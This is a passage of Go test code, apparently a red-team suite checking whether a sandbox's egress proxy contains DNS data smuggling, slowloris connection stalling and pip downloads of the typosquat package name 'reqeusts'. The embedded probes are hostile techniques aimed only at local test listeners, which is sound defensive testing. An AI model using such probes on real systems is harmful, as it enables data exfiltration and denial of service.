q = struct.pack("!HHHHHH", 0x4d4f, 0x0100, 1, 0, 0, 0) + b"".join(bytes([len(l)]) + l.encode() for l in names[0].split(".")) + b"\0" + struct.pack("!HH", 1, 1)
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
try:
    u.sendto(q, ("127.0.0.1", 53)); print("udp 53 sent")
except OSError as e:
    print("udp 53 failed", e.errno)
`
	res, _, err := r.egressRun(ctx, []string{"localhost:" + p}, []string{"127.0.0.1"}, nil, egressProg(prog, token))
	var datagrams int64
	if udp != nil {
		datagrams = udp.close()
	}
	if err != nil {
		return runErr(err)
	}
	if datagrams > 0 {
		return Escaped, fmt.Sprintf("the host's 127.0.0.1:53 received %d datagram(s) from the sandbox", datagrams), 1
	}
	for _, a := range res.Network {
		if strings.Contains(a.Host, token) {
			return Escaped, "the secret-bearing name reached the proxy: " + fmtAttempt(a), 1
		}
	}
	if len(res.Network) > 0 {
		return Escaped, fmt.Sprintf("DNS lookups from inside produced proxy traffic: %s", fmtAttempt(res.Network[0])), 1
	}
	out := decode(res.Stdout) + decode(res.Stderr)
	if strings.Contains(out, "RESOLVED") || strings.Contains(out, "CONNECTED") {
		return Escaped, "a name resolved inside the sandbox: " + clip(out, 200), 1
	}
	if !strings.Contains(out, "name 1 lookup failed") {
		return Error, "the program did not run: " + clip(out, 200), 1
	}
	return Contained, "lookups fail inside; the proxy log is empty; " + port53, 1
}

func egressSlowloris(ctx context.Context, r *runner) (string, string, int) {
	sink, err := egressListen("127.0.0.1:0", true)
	if err != nil {
		return Error, "host setup: " + err.Error(), 0
	}
	p := strconv.Itoa(sink.port())
	prog := `
p = sys.argv[1]
slow = []
for i in range(10):
    s = socket.create_connection(("127.0.0.1", 3128), timeout=5)
    s.sendall((("GET http://localhost:%s/slow HT" if i % 2 else "CONNECT localhost:%s HTTP/1.1\r\nHost: loc") % p).encode())
    slow.append(s)
time.sleep(0.5)
t = time.time()
curl("http://localhost:%s/after" % p)
print("after took %.2fs" % (time.time() - t))
time.sleep(0.5)
for s in slow:
    s.close()
`
	res, took, err := r.egressRun(ctx, []string{"localhost:" + p}, []string{"127.0.0.1"}, nil, egressProg(prog, p))
	heads := sink.close()
	if err != nil {
		return runErr(err)
	}
	after := 0
	for _, h := range heads {
		if strings.HasPrefix(h, "GET /after") {
			after++
		} else {
			return Escaped, fmt.Sprintf("an incomplete request reached the server: %q", clip(h, 80)), 1
		}
	}
	if after != 1 {
		return Escaped, fmt.Sprintf("with 10 stalled connections the normal request did not reach the granted server (%s; %s)", egressReasons(res), netTail(res)), 1
	}
	// The slow connections would hold slots for the 10s handshake timeout;
	// the run must not have waited for them.
	if took > 8*time.Second {
		return Escaped, fmt.Sprintf("the run took %.1fs: the normal request waited on the stalled ones", took.Seconds()), 1
	}
	return Contained, fmt.Sprintf("the normal request got through while 10 stalled (%s; run %.1fs; %s)", egressReasons(res), took.Seconds(), netTail(res)), 1
}

// supplyWheel is a minimal valid wheel of the package moatdemo.
func supplyWheel() ([]byte, error) {
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	for _, f := range [][2]string{
		{"moatdemo/__init__.py", "VALUE = 42\n"},
		{"moatdemo-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: moatdemo\nVersion: 1.0\n"},
		{"moatdemo-1.0.dist-info/WHEEL", "Wheel-Version: 1.0\nGenerator: moat-redteam\nRoot-Is-Purelib: true\nTag: py3-none-any\n"},
		{"moatdemo-1.0.dist-info/top_level.txt", "moatdemo\n"},
		{"moatdemo-1.0.dist-info/RECORD", ""},
	} {
		w, err := zw.Create(f[0])
		if err != nil {
			return nil, err
		}
		w.Write([]byte(f[1]))
	}
	err := zw.Close()
	return buf.Bytes(), err
}

// supplyAllowlistedIndex: an index granted by name serves pip through the
// proxy; a second index on another port of the same host, not granted, is
// asked for a typosquat and must see nothing.
func supplyAllowlistedIndex(ctx context.Context, r *runner) (string, string, int) {
	wheel, err := supplyWheel()
	if err != nil {
		return Error, "host setup: " + err.Error(), 0
	}
	l, err := net.Listen("tcp4", "127.0.0.1:0")
	if err != nil {
		return Error, "host setup: " + err.Error(), 0
	}
	port := l.Addr().(*net.TCPAddr).Port
	var good atomic.Int64
	var hosts sync.Map
	srv := &http.Server{ReadHeaderTimeout: 5 * time.Second, Handler: http.HandlerFunc(func(w http.ResponseWriter, req *http.Request) {
		good.Add(1)
		hosts.Store(req.Host, true)
		switch req.URL.Path {
		case "/simple/moatdemo/":
			fmt.Fprintf(w, `<!DOCTYPE html><html><body><a href="http://localhost:%d/files/moatdemo-1.0-py3-none-any.whl">moatdemo-1.0-py3-none-any.whl</a></body></html>`, port)
		case "/files/moatdemo-1.0-py3-none-any.whl":
			w.Write(wheel)
		default:
			http.NotFound(w, req)
		}
	})}
	go srv.Serve(l)
	defer srv.Close()
	evil, bad, evilPort, err := supplyIndex()
	if err != nil {
		return Error, "host setup: " + err.Error(), 0
	}
	defer evil.Close()
	script := fmt.Sprintf(`
pipargs="--isolated --disable-pip-version-check --no-cache-dir --no-deps --retries 0 --timeout 5 --proxy $HTTP_PROXY"
python3 -m pip download $pipargs -d dl --index-url http://localhost:%d/simple moatdemo >/tmp/pip1 2>&1; echo "granted rc=$?"
python3 -m pip download $pipargs -d dl2 --index-url http://localhost:%d/simple reqeusts >/tmp/pip2 2>&1; echo "typosquat rc=$?"
tail -2 /tmp/pip2
ls dl
`, port, evilPort)
	res, _, err := r.egressRun(ctx, []string{fmt.Sprintf("localhost:%d", port)}, []string{"127.0.0.1"}, nil, []string{"sh", "-c", script})
	if err != nil {
		return runErr(err)
	}
	if n := bad.Load(); n > 0 {
		return Escaped, fmt.Sprintf("the index on localhost:%d, not granted, served %d request(s) for the typosquat", evilPort, n), 1
	}
	out := decode(res.Stdout)
	if strings.Contains(out, "typosquat rc=0") {
		return Escaped, "pip reported the typosquat download as a success", 1
	}
	for _, a := range egressAllowed(res) {
		if a.Port != port {
			return Escaped, "the proxy let a request to another destination through: " + fmtAttempt(a), 1
		}
	}
	wheelIn := false
	for _, f := range res.Files {
		wheelIn = wheelIn || strings.HasSuffix(f.Path, "moatdemo-1.0-py3-none-any.whl")
	}
	refused := 0
	for _, a := range res.Network {
		if a.Port == evilPort && a.Reason == "not-allowlisted" {
			refused++
		}
	}
	if !strings.Contains(out, "granted rc=0") || !wheelIn || good.Load() < 2 || refused == 0 {
		return Error, fmt.Sprintf("the positive control failed: pip through the proxy (%s), wheel in workspace=%v, granted index hits=%d, refusals of the other index=%d (%s)", clip(out, 200), wheelIn, good.Load(), refused, egressReasons(res)), 1
	}
	return Contained, fmt.Sprintf("pip downloaded the granted wheel through the proxy (%d index requests); the ungranted index saw 0 requests, the proxy refused it %d time(s) not-allowlisted", good.Load(), refused), 1
}
